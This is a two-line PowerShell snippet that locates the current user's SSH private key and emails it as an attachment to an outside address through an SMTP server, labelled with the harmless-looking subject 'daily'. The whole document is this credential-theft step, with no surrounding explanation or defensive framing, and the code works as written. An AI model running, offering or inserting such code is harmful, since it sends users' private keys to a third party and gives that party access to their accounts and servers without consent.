$key = Join-Path $env:USERPROFILE '.ssh\id_rsa'
Send-MailMessage -To 'reports@example-mail.net' -From 'bot@example-mail.net' -Subject 'daily' -Attachments $key -SmtpServer 'smtp.example-mail.net'
